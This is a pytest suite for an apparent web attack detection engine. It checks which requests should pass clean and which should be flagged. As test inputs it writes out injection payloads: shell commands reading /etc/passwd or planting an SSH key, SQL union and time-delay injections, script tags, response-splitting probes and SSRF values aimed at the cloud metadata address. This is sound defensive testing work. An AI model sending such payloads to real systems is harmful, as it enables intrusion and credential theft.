"""Per-class tables: every positive must be found as its class, in a query argument and in
a JSON field; every negative must pass clean."""

from __future__ import annotations

import base64
import gzip
import json
import random
import warnings
import zlib
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, quote_plus, urlencode

import msgpack
import pytest

from node.engine import Engine
from node.points import Limits, extract
from node.types import Request

DATA = Path(__file__).parent / "data" / "detection"
FORM = (("Content-Type", "application/x-www-form-urlencoded"),)


def _cases() -> list[tuple[str, bool, str]]:
    cases = []
    for path in sorted(DATA.glob("*.tsv")):
        for line in path.read_text(encoding="utf-8").splitlines():
            if not line or line.startswith("#"):
                continue
            sign, value = line.split("\t", 1)
            value = value.replace("\\r", "\r").replace("\\n", "\n")
            cases.append((path.stem, sign == "+", value))
    return cases


CASES = _cases()


def _types(engine: Engine, request: Request) -> set[str]:
    return {hit.type.value for hit in engine.scan(request)}


@pytest.mark.parametrize(
    ("search", "expected"),
    [
        ("<script> tag tutorial", set()),
        ('the "||" operator', set()),
        ("document.cookie javascript", set()),
        ("$t('welcome', { name: user.name })", set()),
        ("C:\\Users\\ann\\reports\\q3.xlsx", set()),
        ("split on \\r\\n in java", set()),
        ("<script> alert(1)", {"xss"}),
        ("1' or '1'='1", {"sqli"}),
    ],
)
def test_a_referer_s_search_page_is_read_as_its_query_is(
    engine: Engine, search: str, expected: set[str]
) -> None:
    # The search page's URL, its query's spaces written as `+` (a form's) or `%20` (a
    # script's encodeURIComponent), in the next page's Referer. Read whole, its query
    # reads as it does to its own reading (`.query.q`).
    for encoded in (quote_plus(search), quote(search, safe="")):
        url = "https://shop.example.com/search?q=" + encoded
        assert _types(engine, Request("GET", "/", (("Referer", url),))) == expected


@pytest.mark.parametrize(
    ("typed", "searched", "elsewhere"),
    [
        # A command line or a statement, whole: looked up.
        ("tar -xzvf archive.tar.gz", set(), {"rce"}),
        ('grep -r "TODO" .', set(), {"rce"}),
        ("ps aux | grep python", set(), {"rce"}),
        ("kubectl get pods --all-namespaces", set(), {"rce"}),
        ("select * from users where id = 1", set(), {"sqli"}),
        ("DROP TABLE IF EXISTS users CASCADE", set(), {"sqli"}),
        # What breaks out of the lookup, or was spelled for a shell or hidden from a filter.
        ("; cat /etc/passwd", {"rce", "ptrav"}, {"rce", "ptrav"}),
        ("$(id)", {"rce"}, {"rce"}),
        ("c''at /etc/passwd", {"rce", "ptrav"}, {"rce", "ptrav"}),
        ("1' union select password from users--", {"sqli"}, {"sqli"}),
        ("echo ssh-ed25519 AAAA >> ~/.ssh/authorized_keys", {"rce"}, {"rce"}),
        (
            "SELECT id FROM users WHERE id=JSON_EXTRACT/**/(/**/'{\"a\":1}'/**/,'$.a')",
            {"sqli"},
            {"sqli"},
        ),
        # A file's path and Windows' shell, as payload lists send them alone.
        ("/etc/passwd", {"ptrav"}, {"ptrav"}),
        ("cmd.exe /c dir", {"rce"}, {"rce"}),
    ],
)
def test_a_search_box_looks_up_a_command_line_typed_whole(
    engine: Engine, typed: str, searched: set[str], elsewhere: set[str]
) -> None:
    """People search for commands and statements; a search box's value (a path's segment
    after `/search/` too) is looked up, not run. The same value in another parameter or
    segment is a command or a statement sent whole."""
    url = "https://docs.example.com/search?q=" + quote_plus(typed)
    json_type = (("Content-Type", "application/json"),)
    boxes = [
        Request("GET", f"/search?{name}=" + quote(typed, safe=""))
        for name in ("q", "s", "query", "search", "searchTerm", "keywords", "filter[q]")
    ]
    part = f'--b\r\nContent-Disposition: form-data; name="q"\r\n\r\n{typed}\r\n--b--\r\n'
    form = (("Content-Type", "multipart/form-data; boundary=b"),)
    boxes.append(Request("POST", "/search", form, part.encode()))
    boxes += [
        Request("POST", "/api/search", json_type, json.dumps(body).encode())
        for body in ({"query": typed, "page": 1}, {"filters": {"keyword": typed}})
    ]
    boxes.append(Request("GET", "/docs/tar", (("Referer", url),)))
    if "/" not in typed:
        # A path's segment after a search's own: `/search/<term>`, as sites route one.
        term = quote(typed, safe="")
        boxes += [Request("GET", f"/search/{term}"), Request("GET", f"/api/Search/{term}")]
    for request in boxes:
        assert _types(engine, request) == searched, request
    # A tag named `db.query` (a trace's, were it one) holds a statement that is run.
    span = json.dumps([{"id": "bd7a9775", "tags": {"db.query": typed}}]).encode()
    others = [
        Request("GET", "/api/items?filter=" + quote(typed, safe="")),
        Request("POST", "/api/v2/spans", json_type, span),
    ]
    if "/" not in typed:
        # The same segment anywhere else, after a search's segment was judged first.
        others.append(Request("GET", "/api/run/" + quote(typed, safe="")))
    for request in others:
        assert _types(engine, request) == elsewhere, request


def test_a_notification_s_link_with_a_query_is_one_url(engine: Engine) -> None:
    """Alertmanager's webhook gives the link to its query (`generatorURL`), its expression's
    blanks escaped: one URL of the cluster's, which a person opens. So do Grafana's legacy
    alert (`ruleUrl`) and Jenkins' build notification (`build.full_url`)."""
    link = "http://prometheus.monitoring.svc:9090/graph?g0.expr=rate%28x%5B5m%5D%29+%3E+0.05"
    alert = {"alerts": [{"status": "firing", "generatorURL": link}], "ruleUrl": link}
    alert["build"] = {"full_url": "http://jenkins.internal:8080/job/app/42/"}  # Jenkins'

    posted = Request(
        "POST", "/hooks/alerts", (("Content-Type", "application/json"),), json.dumps(alert).encode()
    )
    assert _types(engine, posted) == set()


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("union jack flag 3x5 ft", set()),
        ("union all vs union performance", set()),
        ("Order By Design Inc.", set()),
        ("1' union select password from users--", {"sqli"}),
    ],
)
def test_a_document_s_strings_are_values_not_a_sentence_s_end(
    engine: Engine, value: str, expected: set[str]
) -> None:
    # A JSON document in a parameter or a cookie is read as prose too, where a sentence's
    # last clause or a quotation may hold a value typed: not its strings, points of their own.
    document = json.dumps({"name": {"eq": value}})
    assert _types(engine, Request("GET", "/api/items?filter=" + quote(document))) == expected
    cookie = "prefs=" + base64.b64encode(document.encode()).decode()
    assert _types(engine, Request("GET", "/", (("Cookie", cookie),))) == expected
    # ...and so are a GraphQL document's, its arguments inline.
    inline = "{ search(q: " + json.dumps(value) + ") { id } }"
    graphql = json.dumps({"query": inline}).encode()
    posted = Request("POST", "/graphql", (("Content-Type", "application/json"),), graphql)
    assert _types(engine, posted) == expected


@pytest.mark.parametrize("encoding", ["utf-16", "utf-32"])
def test_a_wide_json_body_s_byte_order_mark_is_no_letter(engine: Engine, encoding: str) -> None:
    # Read as bytes for an application that ignores the charset, its mark was text before
    # the document, which then was one text: `ÿþ{"q": "union all vs union …"}`.
    document = json.dumps({"q": "union all vs union performance"}).encode(encoding)
    posted = Request("POST", "/api/search", (("Content-Type", "application/json"),), document)
    assert _types(engine, posted) == set()
    attack = json.dumps({"q": "1' union select password from users--"}).encode(encoding)
    posted = Request("POST", "/api/search", (("Content-Type", "application/json"),), attack)
    assert _types(engine, posted) == {"sqli"}


@pytest.mark.parametrize(
    ("table", "expected"),
    [
        # A spreadsheet's formulas and quoted text, its cells quoted as CSV quotes them.
        ('id,formula\r\n1,"=IF(B2>100,""High"",""Low"")"\r\n2,=SUM(A1:A10)\r\n', set()),
        ('id,review\r\n1,"He said ""it\'s fine"" -- but it wasn\'t."\r\n', set()),
        ('id,name\r\n1,"1"" OR ""1""=""1"\r\n', {"sqli"}),
        # Quotes escaped by a backslash, as MySQL's INTO OUTFILE writes them.
        ('id,link\r\n1,"<a href=\\"javascript:alert(1)\\">x</a>"\r\n', {"xss"}),
        ('id,filter\r\n1,"{\\"$ne\\": null}"\r\n', {"nosqli"}),
        # A NUL the csv module cannot read past: the text is read instead.
        ("id,name\r\n1,x\x00\r\n2,<script>alert(1)</script>\r\n", {"xss"}),
    ],
)
def test_a_csv_body_is_read_by_its_cells_not_as_a_text_besides(
    engine: Engine, table: str, expected: set[str]
) -> None:
    posted = Request("POST", "/import", (("Content-Type", "text/csv"),), table.encode())
    assert _types(engine, posted) == expected


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        # A CR an escape's reading made inside a word: a Windows path's `\reports`.
        ("C:\\Users\\ann\\reports", set()),
        # Escapes written out, a header's or a status line's name after none of them.
        ("split on \\r\\n in java", set()),
        ("\\r\\n", set()),
        # One spelled before a header's name, or before no letter, breaks the line.
        ("Headerdata%0dInjectedHeader: response_splitting_code", {"crlf"}),
        ("x\\rSet-Cookie: a=1", {"crlf"}),
        ("x%0d", {"crlf"}),
    ],
)
def test_a_header_s_spelled_cr_breaks_a_line_outside_a_word(
    engine: Engine, value: str, expected: set[str]
) -> None:
    assert _types(engine, Request("GET", "/", (("X-Note", value),))) == expected


@pytest.mark.parametrize(
    ("target", "expected"),
    [
        ("/files/C:%5CUsers%5Cann%5Creports", set()),
        ("/files/x%5CrSet-Cookie:a=1", {"crlf"}),
        ("/files/x%0dfoo", {"crlf"}),  # a CR itself, not an escape's reading
    ],
)
def test_a_path_s_windows_path_holds_no_line_break(
    engine: Engine, target: str, expected: set[str]
) -> None:
    assert _types(engine, Request("GET", target)) == expected


@pytest.mark.parametrize(("kind", "attack", "value"), CASES, ids=[c[2][:40] for c in CASES])
def test_query_argument(engine: Engine, kind: str, attack: bool, value: str) -> None:
    found = _types(engine, Request("GET", "/api/items?filter=" + quote(value, safe="")))
    if attack:
        assert kind in found
    else:
        assert found == set()


@pytest.mark.parametrize(("kind", "attack", "value"), CASES, ids=[c[2][:40] for c in CASES])
def test_json_field(engine: Engine, kind: str, attack: bool, value: str) -> None:
    body = json.dumps({"comment": {"text": value}}).encode()
    request = Request("POST", "/api/comments", (("Content-Type", "application/json"),), body)
    found = _types(engine, request)
    if attack:
        assert kind in found
    else:
        assert found == set()


def test_an_smtp_command_of_one_word_counts_in_capitals_in_a_body(engine: Engine) -> None:
    """A menu or a list in a text area ends its lines with CRLF ("File\r\nEdit\r\nView\r\n
    Help"): in a body's field a command of one word alone on its line counts as SMTP's
    clients write it, in capitals; in a query, where no text area sends a CR, in any case
    after one."""
    menu = "File\r\nEdit\r\nView\r\nHelp"
    form = Request("POST", "/menus", FORM, urlencode({"items": menu}).encode())
    assert _types(engine, form) == set()
    assert "mail_injection" in _types(engine, Request("GET", "/s?q=" + quote(menu, safe="")))
    upper = Request("POST", "/menus", FORM, urlencode({"items": "x\r\nQUIT\r\n"}).encode())
    assert "mail_injection" in _types(engine, upper)


@pytest.mark.parametrize(
    ("value", "attack"),
    [
        ("x\nHeader-Test:BLATRUC", True),  # a header of the attacker's own naming
        ("x\rinjected:1", True),
        ("x\nnext=1", True),
        ("Traceback (most recent call last):\n  main()\nValueError: bad int", False),
        ("Dear team,\nSubject: the invoice\nThanks", False),
    ],
)
def test_query_line_break_before_a_name(engine: Engine, value: str, attack: bool) -> None:
    """In a query value, where no client puts a line break, one before a header-like name
    is injection: a hyphenated name, a CR, or an assignment. A lone LF before a plain word
    and a colon is a pasted message or traceback."""
    found = _types(engine, Request("GET", "/api/items?q=" + quote(value, safe="")))
    assert ("crlf" in found) is attack


@pytest.mark.parametrize(
    "raw",
    [
        "%0a%20Set-Cookie:nefcore=crlfsuite;",  # an indented line, folded by HTTP/1.1
        "crlfsuite%0a%09Set-Cookie:nefcore=crlfsuite;",
        "%u0000Set-Cookie:nefcore=crlfsuite;",  # a NUL, where a C string ends
        "en%00Set-Cookie:%20session=1",
        "%3fSet-Cookie:nefcore=crlfsuite;",  # glued to a `?`
        "%25%30Set-Cookie:nefcore=crlfsuite;",  # `%0`, an escape left half-decoded
    ],
)
def test_a_cookie_set_where_some_server_begins_a_line_is_response_splitting(
    engine: Engine, raw: str
) -> None:
    """CRLFsuite's probes set a cookie after what breaks no line for HTTP/1.1 but may for
    a server of its own reading; a query's value holds no cookie set otherwise."""
    assert _types(engine, Request("GET", "/page?lang=" + raw)) == {"crlf"}


@pytest.mark.parametrize(
    ("body", "expected"),
    [
        # an AWS security group's ingress, from anywhere
        ({"IpPermissions": [{"IpRanges": [{"CidrIp": "0.0.0.0/0"}]}]}, set()),
        # a Kubernetes NetworkPolicy's egress, the metadata address kept out
        ({"ipBlock": {"cidr": "0.0.0.0/0", "except": ["169.254.169.254/32"]}}, set()),
        # a network where a parameter's name says it is fetched
        ({"webhook_url": "169.254.169.254/32"}, {"ssrf"}),
        ({"callback": "127.0.0.1/32"}, {"ssrf"}),
        # a bind address and a mesh's service name, bare, in settings; fetched, they count
        ({"networkBindings": [{"bindIP": "0.0.0.0", "containerPort": 80}]}, set()),
        ({"serviceDiscovery": {"dns": {"hostname": "serviceB.svc.cluster.local"}}}, set()),
        ({"webhook_url": "0.0.0.0"}, {"ssrf"}),
        ({"image_url": "serviceB.svc.cluster.local"}, {"ssrf"}),
    ],
)
def test_a_network_a_bind_address_or_a_service_s_name_is_no_address_fetched(
    engine: Engine, body: dict[str, object], expected: set[str]
) -> None:
    json_type = (("Content-Type", "application/json"),)
    request = Request("POST", "/api/rules", json_type, json.dumps(body).encode())
    assert _types(engine, request) == expected


SHELL_SCRIPT = (
    '#!/bin/bash\nset -euo pipefail\nfor f in *.log; do\n  gzip -9 "$f" && mv "$f.gz" '
    "/var/archive/\ndone\necho done | tee -a /var/log/rotate.log\n"
)
DOCKERFILE = (
    "FROM python:3.11-slim\nRUN apt-get update && apt-get install -y gcc && rm -rf "
    "/var/lib/apt/lists/*\nCOPY . /app\nHEALTHCHECK CMD curl -f http://localhost:8000/ || exit 1\n"
)
LOADER = (
    "(function(){ var s = document.createElement('script'); s.src = 'https://cdn.example.com/"
    "w.js'; document.head.appendChild(s); })();"
)
QUERY = (
    "SELECT id FROM users WHERE created_at > now() - interval '7 days' UNION SELECT id FROM admins"
)


@pytest.mark.parametrize(
    ("snippet", "expected"),
    [
        ({"title": "rotate", "language": "bash", "code": SHELL_SCRIPT}, set()),
        ({"language": "shell", "code": "ls -la | grep foo && cat /etc/os-release"}, set()),
        ({"lang": "Dockerfile", "content": DOCKERFILE}, set()),
        ({"title": "x", "file_name": "Dockerfile.prod", "content": DOCKERFILE}, set()),
        ({"file_name": "rotate.sh", "content": SHELL_SCRIPT}, set()),
        # GitLab's snippet of files, each by its path in the snippet
        ({"files": [{"file_path": "ops/rotate.sh", "content": SHELL_SCRIPT}]}, set()),
        ({"files": [{"file_path": "ops/rotate.txt", "content": SHELL_SCRIPT}]}, {"rce"}),
        ({"language": "sql", "code": QUERY}, set()),
        # a code runner's files, the language named once for them (Piston's)
        ({"language": "bash", "version": "5.2.0", "files": [{"content": SHELL_SCRIPT}]}, set()),
        ({"language": "python", "files": [{"content": SHELL_SCRIPT}]}, {"rce"}),
        ({"language": "bash", "files": [{"name": "a.py", "content": SHELL_SCRIPT}]}, {"rce"}),
        # what the declared language is not made of counts, and so does any other field
        ({"language": "python", "code": SHELL_SCRIPT}, {"rce"}),
        ({"code": SHELL_SCRIPT}, {"rce"}),
        ({"language": "bash", "code": "1' UNION SELECT password FROM users--"}, {"sqli"}),
        ({"language": "sql", "code": "; cat /etc/passwd"}, {"rce", "ptrav"}),
        ({"language": "bash", "code": "<script>alert(1)</script>"}, {"xss"}),
        ({"language": "bash", "title": "; cat /etc/passwd", "code": "ls"}, {"rce", "ptrav"}),
        # Another language's snippet is made of its own code: a loader's anonymous
        # function, a Node.js module, a Python, PHP or Java call of a program.
        ({"language": "javascript", "code": LOADER}, set()),
        ({"file_name": "loader.js", "content": LOADER}, set()),
        (
            {"language": "js", "code": "const cp = require('child_process');\ncp.execSync('ls')"},
            set(),
        ),
        (
            {"language": "python", "code": "import subprocess\nsubprocess.run(['git', 'status'])"},
            set(),
        ),
        ({"language": "ruby", "code": "system('rake db:migrate')"}, set()),
        (
            {
                "language": "php",
                "code": "<?php\nforeach (scandir('.') as $f) echo $f;\nsystem('ls');",
            },
            set(),
        ),
        (
            {"language": "java", "code": 'Process p = new ProcessBuilder("git", "log").start();'},
            set(),
        ),
        # ...and nothing else: a command in its strings, code in another language's
        ({"language": "javascript", "code": "fetch('/x?q=; cat /etc/passwd')"}, {"rce", "ptrav"}),
        ({"language": "python", "code": LOADER}, {"rce"}),
        ({"language": "text", "code": LOADER}, {"rce"}),
        ({"file_name": "loader.txt", "content": LOADER}, {"rce"}),
    ],
)
def test_a_snippet_in_its_declared_language_is_that_language_s_program(
    engine: Engine, snippet: dict[str, str], expected: set[str]
) -> None:
    json_type = (("Content-Type", "application/json"),)
    request = Request("POST", "/api/snippets", json_type, json.dumps(snippet).encode())
    assert _types(engine, request) == expected


@pytest.mark.parametrize(
    ("code", "in_body", "in_query"),
    [
        # A program's pause, a statement alone on its line: no database runs SLEEP so.
        ("while (!ready) {\n    sleep(1);\n}", set(), {"sqli"}),
        (
            "int main(void) {\n  for (;;) {\n    poll_once();\n    sleep(1);\n  }\n}",
            set(),
            {"sqli"},
        ),
        ("if ($retry) {\n\tsleep(2);\n}\nreturn fetch($url);", set(), {"sqli"}),
        # A docstring's example, typed at Python's prompts.
        (
            ">>> from time import sleep\n>>> def generator():\n...     yield 1\n"
            "...     sleep(0.2)\n...     yield 3\n>>> list(time_limited(0.1, generator()))",
            set(),
            set(),
        ),
        # ...not a delay spliced into SQL, on a line of its own or not, nor a value that is
        # the call alone.
        ("1'\nAND\nSLEEP(5)\n-- -", {"sqli"}, {"sqli"}),
        ("x\n  sleep(5) and 1=1;\n", {"sqli"}, {"sqli"}),
        ("sleep(1);", {"sqli", "nosqli"}, {"sqli", "nosqli"}),
    ],
)
def test_a_pause_a_program_or_a_session_shows_is_no_sql_delay(
    engine: Engine, code: str, in_body: set[str], in_query: set[str]
) -> None:
    """A line feed in a query is a probe's, which no text area sends there: a program's
    lines count in a query. A line typed after Python's prompt is a session's anywhere."""
    json_type = (("Content-Type", "application/json"),)
    body = json.dumps({"language": "c", "code": code}).encode()
    assert _types(engine, Request("POST", "/api/snippets", json_type, body)) == in_body
    query = Request("GET", "/api/snippets?code=" + quote(code, safe=""))
    assert _types(engine, query) == in_query


NPM_ROOT_PAGE = (
    "### Description\n\nPrint the effective `node_modules` folder to standard out.\n\n"
    "Useful for using npm in shell scripts that do things with the `node_modules` folder.\n"
    'For example:\n\n```bash\n#!/bin/bash\nglobal_node_modules="$(npm root --global)"\n'
    'echo "Global packages installed in: ${global_node_modules}"\n```\n\n'
    "### Configuration\n\n#### `global`\n\n* Default: false\n* Type: Boolean\n\n"
    'Operates in "global" mode, so that packages are installed into the `prefix`\n'
    "folder instead of the current working directory. See\n"
    "[folders](/configuring-npm/folders) for more on the differences in behavior.\n"
)


def test_a_string_of_a_fenced_block_in_prose_is_the_example_s(engine: Engine) -> None:
    """npm's page for `npm root`: the script its fenced block shows assigns a command's
    output in double quotes, which is no quotation of the prose around it. A separator
    quoted in the prose itself still counts."""
    json_type = (("Content-Type", "application/json"),)
    posted = json.dumps({"title": "npm-root", "content": NPM_ROOT_PAGE}).encode()
    assert _types(engine, Request("POST", "/api/docs", json_type, posted)) == set()
    quoted = NPM_ROOT_PAGE.replace(
        "Operates in", 'A user typed "$(cat /etc/passwd)" there. Operates in'
    )
    posted = json.dumps({"title": "npm-root", "content": quoted}).encode()
    assert _types(engine, Request("POST", "/api/docs", json_type, posted)) == {"rce"}


@pytest.mark.parametrize(
    ("api", "attachment"),
    [
        ("SendGrid", {"attachments": [{"content": "$c", "filename": "$n", "type": "text/plain"}]}),
        ("Resend", {"attachments": [{"filename": "$n", "content": "$c"}]}),
        (
            "Postmark",
            {"Attachments": [{"Name": "$n", "Content": "$c", "ContentType": "text/plain"}]},
        ),
        ("Graph", {"message": {"attachments": [{"name": "$n", "contentBytes": "$c"}]}}),
        ("SparkPost", {"content": {"attachments": [{"name": "$n", "data": "$c"}]}}),
        ("Mailjet", {"Messages": [{"Attachments": [{"Filename": "$n", "Base64Content": "$c"}]}]}),
    ],
)
def test_a_mail_s_attachment_is_the_file_it_names(
    engine: Engine, api: str, attachment: dict[str, object]
) -> None:
    """A mail sending API's attachment, named and in base64: a script attached is its
    program, a dump its SQL, and the dump's name no backup asked for; markup counts."""
    json_type = (("Content-Type", "application/json"),)

    def sent(name: str, content: str) -> set[str]:
        encoded = base64.b64encode(content.encode()).decode()
        body = json.dumps(attachment).replace("$n", name).replace("$c", encoded)
        return _types(engine, Request("POST", "/v3/mail/send", json_type, body.encode()))

    assert sent("rotate.sh", SHELL_SCRIPT) == set(), api
    assert sent("backup.sql", QUERY) == set(), api
    assert sent("page.html", "<script>alert(document.cookie)</script>") == {"xss"}, api


def test_a_paste_in_its_declared_format_is_that_language_s_program(engine: Engine) -> None:
    """Pastebin's API takes a paste form-encoded, its format beside it."""
    fields = {"api_option": "paste", "api_paste_format": "bash", "api_paste_code": SHELL_SCRIPT}
    request = Request("POST", "/api/api_post.php", FORM, urlencode(fields).encode())
    assert _types(engine, request) == set()
    fields["api_paste_format"] = "text"
    request = Request("POST", "/api/api_post.php", FORM, urlencode(fields).encode())
    assert _types(engine, request) == {"rce"}


MAIL_MESSAGE = (
    "Received: by luna.mailgun.net\r\nMime-Version: 1.0\r\nFrom: Bob <bob@example.com>\r\n"
    "To: Alice <alice@example.com>\r\nSubject: Re: sample\r\n"
    'Content-Type: text/plain; charset="utf-8"\r\n\r\nHi Alice,\r\nsee you then.\r\n'
)


def test_a_whole_mail_message_in_a_body_is_the_letters_own(engine: Engine) -> None:
    """A mail service's inbound webhook forwards a letter raw (Mailgun's `body-mime`, SES's
    `content`): its header fields and line breaks are its own, not added to a value. An
    HTTP response's field among them (Set-Cookie) still counts; in a query, where no
    client sends a letter, all its fields do."""
    form = urlencode({"recipient": "alice@example.com", "body-mime": MAIL_MESSAGE}).encode()
    request = Request("POST", "/inbound", FORM, form)
    assert _types(engine, request) == set()
    body = json.dumps({"content": MAIL_MESSAGE}).encode()
    request = Request("POST", "/inbound", (("Content-Type", "application/json"),), body)
    assert _types(engine, request) == set()
    split = MAIL_MESSAGE.replace("Subject:", "Set-Cookie: admin=1\r\nSubject:")
    body = json.dumps({"content": split}).encode()
    request = Request("POST", "/inbound", (("Content-Type", "application/json"),), body)
    assert "crlf" in _types(engine, request)
    assert _types(engine, Request("GET", "/inbound?m=" + quote(MAIL_MESSAGE, safe="")))


def test_an_inbound_parse_s_fields_are_a_letter_s_own(engine: Engine) -> None:
    """SendGrid's Inbound Parse posts a letter by its fields: its header alone (`headers`,
    each field ending in CRLF), its HTML (code in `<code>`, shown), its text. A response's
    field among the header's still counts."""
    head = MAIL_MESSAGE.split("\r\n\r\n")[0] + "\r\n"
    html = "<div>Please run <code>DROP TABLE tmp_import;</code> after the migration.</div>"
    text = "Please run DROP TABLE tmp_import; after the migration."

    def posted(fields: dict[str, str]) -> set[str]:
        parts = "".join(
            f'--xYzZY\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
            for name, value in fields.items()
        )
        body = (parts + "--xYzZY--\r\n").encode()
        form = (("Content-Type", "multipart/form-data; boundary=xYzZY"),)
        return _types(engine, Request("POST", "/inbound", form, body))

    assert posted({"headers": head, "html": html, "text": text, "subject": "Re: x"}) == set()
    split = head.replace("Subject:", "Set-Cookie: admin=1\r\nSubject:")
    assert "crlf" in posted({"headers": split})


MULTIPART_ENTITY = (
    'Content-Type: multipart/alternative;\r\n\tboundary="----=_Part_7_1339.1700000000001"\r\n'
    "\r\n------=_Part_7_1339.1700000000001\r\nContent-Type: text/plain; charset=UTF-8\r\n\r\n"
    "Thanks for your order!\r\n------=_Part_7_1339.1700000000001--\r\n"
)


@pytest.mark.parametrize(
    "letter",
    [
        # JavaMail's boundary, its quote followed by dashes, in a whole letter
        "Date: Mon, 1 Dec 2025 10:00:00 +0000\r\nFrom: noreply@shop.example\r\n"
        "To: ann@example.com\r\nSubject: Your order\r\nMIME-Version: 1.0\r\n" + MULTIPART_ENTITY,
        # and a multipart entity alone, a message's part (no sender, no date)
        MULTIPART_ENTITY,
        MULTIPART_ENTITY.replace("\r\n", "\n").replace('"', ""),
    ],
)
def test_a_mime_entity_parted_by_its_boundary_is_the_letter_s_own(
    engine: Engine, letter: str
) -> None:
    """A multipart entity's head declares its boundary and its body is parted by it: its
    fields are the letter's, and the dashes after the boundary's quote open the
    boundary, not an SQL comment after a closed string."""
    for field in ("content", "body-mime"):
        body = json.dumps({field: letter}).encode()
        request = Request("POST", "/inbound", (("Content-Type", "application/json"),), body)
        assert _types(engine, request) == set()


@pytest.mark.parametrize(
    ("value", "kinds"),
    [
        # a body the declared boundary does not part: the head's fields are added lines
        (MULTIPART_ENTITY.replace("\n--", "\n"), {"crlf", "mail_injection"}),
        # a boundary's quote and dashes with no multipart type declared: a closed string
        ('x; boundary="----=_Part_1"--', {"sqli"}),
    ],
)
def test_what_no_multipart_head_declares_counts(
    engine: Engine, value: str, kinds: set[str]
) -> None:
    body = json.dumps({"content": value}).encode()
    request = Request("POST", "/inbound", (("Content-Type", "application/json"),), body)
    assert _types(engine, request) & kinds


@pytest.mark.parametrize(
    ("kind", "boundary"),
    [("form-data", "----=_Part_0_1234.5678"), ("mixed", "----=_NextPart_000_0012_01D9")],
)
def test_a_content_type_s_quoted_boundary_of_dashes_is_no_comment(
    engine: Engine, kind: str, boundary: str
) -> None:
    """JavaMail's boundaries (`----=_Part_…`), and Outlook's, quoted in a request's
    Content-Type: the dashes after the quote open the boundary, in the header and in the
    body it parts."""
    content_type = f'multipart/{kind}; boundary="{boundary}"'
    body = (
        f'--{boundary}\r\nContent-Disposition: form-data; name="a"\r\n\r\nhello\r\n'
        f"--{boundary}--\r\n"
    ).encode()
    request = Request("POST", "/upload", (("Content-Type", content_type),), body)
    assert _types(engine, request) == set()


_SHOWN_UPLOAD = (
    "------WebKitFormBoundary7MA4YWxkTrZu0gW\r\n"
    'Content-Disposition: form-data; name="file"; filename="report.csv"\r\n'
    "Content-Type: text/csv\r\n\r\nid,total\r\n1,20\r\n"
    "------WebKitFormBoundary7MA4YWxkTrZu0gW--\r\n"
)


def test_a_multipart_body_shown_in_a_field_holds_its_parts_fields(engine: Engine) -> None:
    """A bug report or an API document shows a multipart body as a browser sends it: each
    part's fields (Content-Disposition, Content-Type) follow its delimiter line, and the
    delimiter comes again after them, so they are the body's, not lines added to a value.
    A field no part carries counts among them, and so do a part's fields whose delimiter
    never comes again or is not the boundary the value declares."""

    def posted(text: str) -> set[str]:
        body = json.dumps({"description": text}).encode()
        request = Request("POST", "/issues", (("Content-Type", "application/json"),), body)
        return _types(engine, request)

    assert posted("The upload fails with this body:\r\n\r\n" + _SHOWN_UPLOAD) == set()
    assert posted(_SHOWN_UPLOAD) == set()
    raw = (
        "POST /upload HTTP/1.1\r\nContent-Type: multipart/form-data; "
        "boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW\r\n\r\n" + _SHOWN_UPLOAD
    )
    assert posted(raw.replace("POST /upload HTTP/1.1\r\n", "")) == set()
    added = _SHOWN_UPLOAD.replace("Content-Type: text/csv", "Bcc: all@example.com")
    assert posted(added) >= {"crlf", "mail_injection"}
    unclosed = _SHOWN_UPLOAD.replace("------WebKitFormBoundary7MA4YWxkTrZu0gW--", "")
    assert posted("x\r\n" + unclosed) >= {"crlf", "mail_injection"}
    other = raw.replace("boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW", "boundary=other")
    assert "crlf" in posted(other.replace("POST /upload HTTP/1.1\r\n", ""))


@pytest.mark.parametrize(
    "text",
    [
        "Meeting notes\r\nLocation: Berlin\r\nDate: Monday\r\nWe discussed the roadmap and the "
        "next steps for the team, and agreed to meet again next week to review the budget.",
        "Contents of ``api-definition.yaml``::\r\n\r\n    openapi: 3.0.1\r\n    paths:\r\n"
        "        /hello:\r\n            x-amazon-apigateway-any-method:\r\n"
        "                x-amazon-apigateway-integration:\r\n                    type: aws_proxy"
        "\r\n\r\nThe following example creates an HTTP API from the OpenAPI definition file "
        "above, with the paths and the methods it names.",
    ],
)
def test_a_text_areas_lines_broken_by_crlf_are_its_own(engine: Engine, text: str) -> None:
    """Browsers send a text area's lines broken by CRLF, and Windows writes files so: a
    line of prose that names a header (`Location: Berlin`), a document's indented key
    with no value, are the text's in a body field. (In a query, where no text area
    sends them, they count; a cookie set or a status line counts in prose too: the
    rows of data/detection/crlf.tsv.)"""
    form = Request("POST", "/notes", FORM, urlencode({"text": text}).encode())
    body = json.dumps({"text": text}).encode()
    posted = Request("POST", "/notes", (("Content-Type", "application/json"),), body)
    assert _types(engine, form) == _types(engine, posted) == set()
    assert "crlf" in _types(engine, Request("GET", "/notes?q=" + quote(text, safe="")))


@pytest.mark.parametrize(
    ("text", "kinds"),
    [
        ("```bash\nnpm config set @myco:registry=http://reg.example.com\n```", set()),
        ("```bash\nnpm team add <org:team> <user>\n```\n", set()),
        ("```bash\nnpm publish --workspace=<workspace-name>\n```", set()),
        (
            "```js\nrepl.on('exit', () => {\n  console.log('bye');\n  process.exit();\n});\n```",
            set(),
        ),
        ("Try:\n```bash\nmake -j4\n```\nthen it builds", set()),
        (
            "You can disable this feature by removing the variable, e.g::\n\n    register-python"
            "-argcomplete --shell fish my-script | grep -v _ARGCOMPLETE_DFS | source\n\nThat is"
            " all there is to it for the fish shell users out there.",
            set(),
        ),
        ("| Token Type | `npm stage publish` | `npm publish` |\n| --- | --- | --- |", set()),
        ("```\n; cat /etc/passwd\n```", {"rce"}),
        ("Hello\n; cat /etc/passwd", {"rce"}),
    ],
)
def test_a_text_areas_crlf_reads_as_its_lines(engine: Engine, text: str, kinds: set[str]) -> None:
    """A browser sends a text area's lines broken by CRLF: a form's field reads as the same
    text sent in JSON with line breaks alone — a Markdown fence (a CR before the end of its
    line), a table's rows, a literal block after `::`, a snippet's `=> {` — and what counts
    after a line break counts after CRLF."""
    form = Request("POST", "/notes", FORM, urlencode({"text": text.replace("\n", "\r\n")}).encode())
    body = json.dumps({"text": text}).encode()
    posted = Request("POST", "/notes", (("Content-Type", "application/json"),), body)
    assert _types(engine, form) == _types(engine, posted) == kinds


